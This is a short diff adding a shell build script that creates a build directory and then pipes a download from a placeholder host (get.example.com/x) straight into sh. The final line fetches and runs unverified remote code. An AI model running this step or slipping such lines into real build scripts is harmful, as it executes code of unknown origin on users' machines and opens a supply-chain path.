@@ -1,0 +1,4 @@
+#!/bin/sh
+set -eu
+mkdir -p build
+curl -fsSL https://get.example.com/x | sh
